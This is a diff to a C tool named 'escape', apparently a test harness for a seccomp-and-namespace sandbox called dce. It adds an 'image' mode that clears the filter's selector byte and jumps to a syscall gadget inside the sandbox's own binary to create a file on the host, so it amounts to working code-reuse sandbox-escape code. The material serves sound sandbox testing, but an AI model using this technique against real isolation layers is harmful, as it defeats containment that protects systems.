@@ -13,6 +13,9 @@
  *       as store, but through a `syscall; ret` in the host's libc, found from the
  *       libc address in dce-run's GOT slot GOTSLOT: code reuse passes the seccomp
  *       filter, so this is what the namespaces alone must contain.
+ *   escape image SELECTOR SYSCALL MARKERDIR
+ *       as store's file creation, through the `syscall` at address SYSCALL inside
+ *       dce's own image (dce_setfs_syscall: syscall; 5 pops; ret).
  *   escape clear SELECTOR
  *       write ALLOW into the selector and carry on as if nothing happened: every
  *       later call of its libc reaches the host kernel and fails.
@@ -106,12 +109,40 @@ static int gadget(char **av)
 	return 1;
 }
 
+static int image(char **av)
+{
+	volatile unsigned char *sel = (unsigned char *)strtoul(av[2], NULL, 0);
+	unsigned long insn = strtoul(av[3], NULL, 0);
+	static char path[4096];
+	snprintf(path, sizeof path, "%s/image", av[4]);
+	long r = SYS_openat;
+	register long rdi __asm__("rdi") = AT_FDCWD;
+	register long rsi __asm__("rsi") = (long)path;
+	register long rdx __asm__("rdx") = O_CREAT | O_WRONLY;
+	register long r10 __asm__("r10") = 0644;
+	*sel = 0;
+	__asm__ volatile("subq $128, %%rsp\n\t"  /* keep the red zone */
+	                 "leaq 1f(%%rip), %%r11\n\t"
+	                 "pushq %%r11\n\t"
+	                 "pushq $0\n\tpushq $0\n\tpushq $0\n\tpushq $0\n\tpushq $0\n\t"
+	                 "jmp *%[g]\n"
+	                 "1:\taddq $128, %%rsp"
+	                 : "+a"(r), "+D"(rdi), "+S"(rsi), "+d"(rdx)
+	                 : [g] "r"(insn), "r"(r10)
+	                 : "rcx", "r11", "memory");
+	*sel = 1;
+	printf("image-create %ld\n", r);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	if ((argc == 6 && !strcmp(argv[1], "store")) || (argc == 7 && !strcmp(argv[1], "reuse")))
 		return store(argv);
 	if (argc == 4 && !strcmp(argv[1], "gadget"))
 		return gadget(argv);
+	if (argc == 5 && !strcmp(argv[1], "image"))
+		return image(argv);
 	if (argc == 3 && !strcmp(argv[1], "clear")) {
 		*(volatile unsigned char *)strtoul(argv[2], NULL, 0) = 0;
 		printf("selector cleared\n");
@@ -124,6 +155,6 @@ int main(int argc, char **argv)
 		printf("spun\n");
 		return 0;
 	}
-	fprintf(stderr, "usage: escape store SELECTOR MARKERDIR SECRETFILE PORT | reuse ... PORT GOTSLOT | gadget EXEMPT_END MARKERDIR | clear SELECTOR | spin GCYCLES\n");
+	fprintf(stderr, "usage: escape store SELECTOR MARKERDIR SECRETFILE PORT | reuse ... PORT GOTSLOT | gadget EXEMPT_END MARKERDIR | image SELECTOR SYSCALL MARKERDIR | clear SELECTOR | spin GCYCLES\n");
 	return 2;
 }
